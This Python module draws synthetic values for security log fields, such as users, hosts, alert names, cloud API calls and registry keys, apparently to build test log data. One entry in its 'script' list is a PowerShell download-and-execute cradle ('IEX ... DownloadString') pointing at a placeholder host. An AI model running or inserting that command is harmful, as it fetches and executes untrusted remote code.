"""Draws values of the kinds that log fields hold; every name in them is made up."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

USERS = (
    "mkeller",
    "j.doe",
    "svc_backup",
    "anna.berg",
    "root",
    "admin",
    "tlindqvist",
    "CORP\\\\rhonda",
    "operator7",
    "u10482",
    "ppatel",
    "guest",
    "deploy",
    "sanchez",
)
WORDS = (
    "alpha",
    "north",
    "kestrel",
    "ops",
    "falun",
    "default",
    "primary",
    "zebra",
    "orchid",
    "marlin",
    "quartz",
    "lumen",
    "delta",
    "harbor",
    "enabled",
    "x86_64",
    "none",
    "true",
    "core",
)
SYLLABLES = ("ka", "ro", "li", "ne", "mo", "ta", "vi", "su", "po", "de")
CHOICES: dict[str, tuple[str, ...]] = {
    "product": (
        "Aquilon Shield",
        "NorthGate",
        "Velum",
        "Tessera Monitor",
        "Ostara",
        "Kobalt Sensor",
        "Halyard",
        "Quarrel",
    ),
    "severity": (
        "info",
        "low",
        "medium",
        "high",
        "critical",
        "warning",
        "3",
        "5",
        "notice",
        "error",
        "INFO",
    ),
    "result": (
        "success",
        "failure",
        "failed",
        "ok",
        "SUCCESS",
        "denied",
        "true",
        "false",
        "allowed",
        "FAILED",
        "error",
        "0",
    ),
    "bool": ("true", "false", "yes", "no", "Valid", "1", "0"),
    "phrase": (
        "Invoice for last quarter",
        "bad password",
        "value out of range",
        "meeting notes",
        "not permitted",
        "account expired",
        "Your parcel is waiting",
        "timeout while waiting",
        "enable encryption at rest",
        "completed",
    ),
    "agent": (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0",
        "curl/8.4.0",
        "python-requests/2.31",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15)",
        "okhttp/4.9",
        "Outlook-iOS/2.0",
    ),
    "logon": (
        "password",
        "mfa",
        "kerberos",
        "NTLM",
        "publickey",
        "saml",
        "3",
        "10",
        "oauth",
        "Interactive",
        "RADIUS",
        "remote",
        "totp",
        "network",
    ),
    "group": (
        "Domain Admins",
        "vpn-users",
        "finance",
        "developers",
        "wheel",
        "sudo",
        "helpdesk",
        "Backup Operators",
    ),
    "role": (
        "Owner",
        "administrator",
        "db_reader",
        "SeDebugPrivilege",
        "billing-admin",
        "read-only",
        "AdministratorAccess",
        "contributor",
        "SeBackupPrivilege",
    ),
    "ext": ("pdf", "exe", "docx", "text/plain", "zip"),
    "regtype": ("REG_SZ", "REG_DWORD", "REG_BINARY"),
    "task": (
        "\\\\Backup\\\\Nightly",
        "cleanup-tmp",
        "UpdateCheck",
        "cron.daily",
        "report-job",
        "sync.timer",
        "/etc/cron.d/rotate",
    ),
    "cron": ("0 2 * * *", "*/5 * * * *", "daily", "at logon", "2026-01-06T02:00:00Z", "0 0 1 * *"),
    "service": (
        "Spooler",
        "sshd",
        "nginx.service",
        "BackupSvc",
        "WinUpdateHelper",
        "docker",
        "kbagent",
    ),
    "start": ("auto", "manual", "disabled", "demand start", "boot"),
    "state": ("running", "stopped", "paused", "start pending"),
    "script": (
        "Get-Process | Where-Object CPU -gt 10",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "cleanup.ps1",
        "backup.sh",
        "function Test-It { param($a) }",
        "import os; os.listdir('.')",
        "deploy.py",
    ),
    "usb": ("USBSTOR\\\\Disk", "0x0781", "E:", "Mass Storage", "SN4839201", "HID keyboard"),
    "proto": ("tcp", "udp", "6", "17", "TCP", "icmp", "UDP"),
    "rulename": ("allow-web", "default-deny", "rule_17", "outbound-any", "block_guest", "inet_acl"),
    "netaction": (
        "allow",
        "deny",
        "drop",
        "accept",
        "blocked",
        "permitted",
        "pass",
        "close",
        "reset",
        "ALLOW",
        "DENY",
    ),
    "zone": ("trust", "untrust", "dmz", "eth0", "inside", "outside", "lan", "wan1", "vlan20"),
    "connstate": ("SF", "ESTABLISHED", "S0", "SYN", "RST", "FIN", "tcp-fin", "aged-out", "CLOSED"),
    "svc": ("https", "ssl", "dns", "ssh", "web-browsing", "http", "smb"),
    "method": ("GET", "POST", "PUT", "HEAD", "CONNECT", "DELETE", "OPTIONS"),
    "httpstatus": ("200", "404", "302", "500", "403", "301", "201", "401", "304"),
    "urlcat": (
        "news",
        "malware",
        "business",
        "social",
        "text/html",
        "uncategorized",
        "application/json",
    ),
    "qtype": ("A", "AAAA", "TXT", "MX", "CNAME", "PTR", "NS", "SRV", "1", "28"),
    "rcode": ("NOERROR", "NXDOMAIN", "SERVFAIL", "0", "3", "REFUSED"),
    "dhcp": ("DHCPACK", "DISCOVER", "REQUEST", "OFFER", "RELEASE", "ack", "renew"),
    "rdpsec": ("CredSSP", "TLS", "HYBRID", "1920", "x509", "rdp-gw"),
    "share": (
        "\\\\\\\\*\\\\IPC$",
        "\\\\\\\\fs01\\\\finance",
        "C$",
        "ADMIN$",
        "public",
        "\\\\\\\\nas2\\\\homes",
    ),
    "smbcmd": ("SMB2_CREATE", "SMB::FILE_OPEN", "tree_connect", "3.1.1", "read", "svcctl", "SMB2"),
    "sshver": (
        "SSH-2.0-OpenSSH_9.3",
        "SSH-2.0-Go",
        "curve25519-sha256",
        "SSH-2.0-libssh2_1.10",
        "aes256-gcm",
        "ssh-ed25519",
    ),
    "ftpcmd": ("STOR", "RETR", "USER", "226", "PASV", "LIST", "530 Login incorrect"),
    "vpn": ("ipsec", "ssl-vpn", "branch-17", "wg0", "IKEv2", "tun0", "l2tp"),
    "spf": ("pass", "fail", "softfail", "inbound", "delivered", "quarantine", "2.5", "none"),
    "api": (
        "CreateBucket",
        "DescribeInstances",
        "storage.objects.get",
        "RunInstances",
        "iam.serviceAccounts.list",
        "PutObject",
        "deleteVolume",
        "list",
        "compute.instances.insert",
        "GetSecretValue",
        "Microsoft.Store/write",
        "UpdatePolicy",
        "watch",
        "StopLogging",
        "vm.start",
    ),
    "apisvc": (
        "compute",
        "storage.svc",
        "iam",
        "kms.cloud.example",
        "apps/v1",
        "secrets",
        "queue",
        "s3.example.com",
    ),
    "region": ("eu-west-1", "us-east-2", "westeurope", "asia-south1", "global"),
    "resource": (
        "arn:cloud:store:::bkt-7",
        "projects/p1/instances/web1",
        "/subscriptions/77/groups/rg",
        "vol-0abc12",
        "bucket-logs",
        "pods/web-1",
        "prod-db",
    ),
    "restype": (
        "bucket",
        "instance",
        "Pod",
        "VirtualMachine",
        "Key",
        "File",
        "role",
        "SecretStore",
        "volume",
        "Deployment",
    ),
    "db": ("orders", "hr", "prod", "analytics", "crm_main"),
    "table": ("customers", "public.payments", "users", "inventory", "dbo.Salaries"),
    "sql": (
        "SELECT * FROM customers WHERE id = 7",
        "UPDATE accounts SET balance = 0",
        "INSERT INTO logs VALUES (1)",
        "DELETE FROM orders",
        "DROP TABLE tmp",
        "find {filter: {}}",
        "select count(*) from payments",
    ),
    "alert": (
        "Trojan.Generic.A",
        "ET MALWARE Beacon",
        "Win32/Ransom.X",
        "Suspicious PowerShell",
        "Mimikatz",
        "Port scan",
        "Cobalt beacon",
        "EICAR-Test",
        "SQL injection attempt",
        "Credential dumping",
        "C2 callback",
        "Brute force",
        "SERVER-WEBAPP command injection attempt",
        "Cross-Site Scripting (XSS)",
        "Path-Traversal",
        "Hidden HTTP Tunnel",
        "Data exfiltration over DNS",
        "Suspicious self-signed certificate",
        "Anomalous connection to rare domain",
        "Privilege escalation exploit",
        "Phishing page visited",
        "Malicious attachment",
        "Crypto miner",
        "Lateral movement over SMB",
        "Web shell upload",
        "Trojan-activity",
        "INDICATOR-COMPROMISE suspicious query",
        "Impossible travel",
        "Token theft",
        "Ransomware behaviour",
        "Kerberoasting",
        "Vulnerability exploit attempt",
        "Botnet traffic",
        "Adware.Agent",
        "PUA.Toolbar",
        "Worm.Conficker.B",
        "Backdoor:Linux/Tsunami",
        "Reconnaissance sweep",
        "Policy violation: remote access tool",
        "Unusual volume of downloads",
    ),
    "technique": (
        "T1059.001",
        "T1003",
        "Credential Access",
        "TA0002",
        "Lateral Movement",
        "Execution",
    ),
    "remedy": (
        "quarantined",
        "blocked",
        "cleaned",
        "isolated",
        "killed",
        "deleted",
        "none",
        "contained",
    ),
    "cvss": ("7.5", "9.8", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "4.3", "0.92"),
    "package": (
        "openssl",
        "libxml2",
        "log4j-core",
        "Acme Reader",
        "nginx",
        "python3.11",
        "zlib1g",
        "SuperEdit",
    ),
    "control": (
        "CIS 1.2.3",
        "NIST AC-2",
        "PCI 8.3",
        "check-21",
        "iso27001-a9",
        "root account has MFA",
        "SC-7",
        "password length >= 14",
    ),
    "passfail": ("PASS", "FAIL", "compliant", "non-compliant", "passed", "failed", "NON_COMPLIANT"),
    "incstate": (
        "new",
        "in progress",
        "closed",
        "true positive",
        "false positive",
        "escalated",
        "resolved",
    ),
    "datatype": (
        "credit card",
        "PII",
        "SSN",
        "confidential",
        "IBAN",
        "health records",
        "passport numbers",
    ),
    "os": ("Windows 11", "Ubuntu 22.04", "macOS 14.2", "linux", "RHEL 9", "Windows Server 2022"),
    "setting": (
        "ntp.server",
        "logging.level",
        "snmp community",
        "AllowRemote",
        "firewall.policy.12",
        "DisableAntiSpyware",
        "system.global",
        "acl 101",
    ),
    "errortext": (
        "NullPointerException",
        "java.lang.OutOfMemoryError",
        "0xc0000005",
        "segfault",
        "KeyError: 'id'",
        "panic: runtime error",
        "connection refused",
    ),
    "scan": ("full", "quick", "on-demand", "1204", "completed", "cancelled"),
    "enttype": (
        "user",
        "groupPolicyContainer",
        "organizationalUnit",
        "application",
        "policy",
        "device",
    ),
    "hostpart": ("ws", "srv", "dc", "lap", "web", "db", "mail", "fw"),
    "folder": (
        "C:\\\\Windows\\\\System32\\\\",
        "C:\\\\Users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\",
        "/usr/bin/",
        "/tmp/",
        "/opt/app/",
        "C:\\\\Program Files\\\\Tool\\\\",
        "/home/kim/",
    ),
}


def value(kind: str, draw: Random) -> str:
    """Draw a value of a kind; an unknown kind is a word."""
    if kind in CHOICES:
        return draw.choice(CHOICES[kind]).replace("\\\\", "\\")
    return MADE.get(kind, _word)(draw)


def _word(draw: Random) -> str:
    return draw.choice(WORDS) if draw.random() < 0.7 else _name(draw)


def _name(draw: Random) -> str:
    return "".join(draw.choices(SYLLABLES, k=draw.randint(2, 4)))


def _ip(draw: Random) -> str:
    first = draw.choice(("10", "192.168", "172.16", "203.0", "198.51"))
    rest = 4 - len(first.split("."))
    return first + "".join(f".{draw.randint(1, 254)}" for _ in range(rest))


def _hex(draw: Random, size: int) -> str:
    return f"{draw.getrandbits(size * 4):0{size}x}"


def _guid(draw: Random) -> str:
    return "-".join(_hex(draw, size) for size in (8, 4, 4, 4, 12))


def _fqdn(draw: Random) -> str:
    first = draw.choice(("www", "api", "mail", "cdn", _name(draw)))
    return f"{first}.{_name(draw)}.{draw.choice(('com', 'net', 'example', 'io'))}"


def _trace(draw: Random) -> str:
    called = [f"{_name(draw)}.dll+{_hex(draw, 5)}" for _ in range(3)]
    return "|".join(f"C:\\Windows\\System32\\{each}" for each in called)


def _command(draw: Random) -> str:
    switch = draw.choice(("-c", "/c", "--run", "-nop -w hidden"))
    return f"{_name(draw)}{draw.choice(('.exe', ''))} {switch} {_name(draw)}"


def _urlpath(draw: Random) -> str:
    return (
        "/"
        + "/".join(_name(draw) for _ in range(draw.randint(1, 3)))
        + draw.choice(("", ".php", "?id=7", ".html"))
    )


def _path(draw: Random, *ends: str) -> str:
    return value("folder", draw) + _name(draw) + draw.choice(ends)


def _time(draw: Random) -> str:
    day, hour, minute = draw.randint(10, 28), draw.randint(10, 23), draw.randint(10, 59)
    return draw.choice(
        (
            f"2026-01-{day}T{hour}:{minute}:07Z",
            f"2026-01-{day} {hour}:{minute}:07",
            f"17676{draw.randint(10000, 99999)}",
            f"17676{draw.randint(10000, 99999)}123",
        )
    )


MADE: dict[str, Callable[[Random], str]] = {
    "trace": _trace,
    "time": _time,
    "ip": _ip,
    "guid": _guid,
    "user": lambda draw: draw.choice(USERS) if draw.random() < 0.6 else _name(draw),
    "host": lambda draw: (
        f"{value('hostpart', draw)}{draw.randint(1, 99)}"
        + draw.choice(("", ".corp.example", "-EU"))
    ),
    "domain": lambda draw: draw.choice(("CORP", "corp.example", _name(draw))),
    "port": lambda draw: str(
        draw.choice((22, 53, 80, 443, 445, 3389, 8080, draw.randint(1024, 65535)))
    ),
    "hex": lambda draw: "0x" + _hex(draw, draw.choice((3, 6, 8))),
    "email": lambda draw: (
        f"{_name(draw)}.{_name(draw)}@{_name(draw)}.{draw.choice(('com', 'example'))}"
    ),
    "number": lambda draw: str(draw.randint(1, 10 ** draw.randint(1, 6))),
    "number12": lambda draw: str(draw.randint(10**11, 10**12)),
    "exe": lambda draw: _path(draw, ".exe", ".exe", ""),
    "cmd": _command,
    "hash": lambda draw: _hex(draw, draw.choice((32, 40, 64))),
    "path": lambda draw: _path(
        draw, ".docx", ".txt", ".tmp", ".exe", ".conf", ".sh", ".so", ".dll", ""
    ),
    "file": lambda draw: _name(draw) + draw.choice((".docx", ".pdf", ".xlsx", ".zip", ".png")),
    "dll": lambda draw: _path(draw, ".dll", ".dll", ".so"),
    "sys": lambda draw: _path(draw, ".sys", ".ko", ".sys"),
    "regkey": lambda draw: (
        draw.choice(
            (
                "HKLM\\SOFTWARE\\",
                "HKCU\\Software\\",
                "HKEY_LOCAL_MACHINE\\SYSTEM\\",
                "\\REGISTRY\\MACHINE\\",
            )
        )
        + _name(draw)
        + "\\Run"
    ),
    "url": lambda draw: draw.choice(("https://", "http://")) + _fqdn(draw) + _urlpath(draw),
    "urlpath": _urlpath,
    "fqdn": _fqdn,
    "mac": lambda draw: ":".join(_hex(draw, 2) for _ in range(6)),
    "msgid": lambda draw: f"<{_hex(draw, 12)}@{_fqdn(draw)}>",
    "cve": lambda draw: f"CVE-20{draw.randint(10, 26)}-{draw.randint(1000, 49999)}",
    "version": lambda draw: f"{draw.randint(1, 20)}.{draw.randint(0, 9)}.{draw.randint(0, 30)}",
    "kb": lambda draw: f"KB50{draw.randint(10000, 99999)}",
}
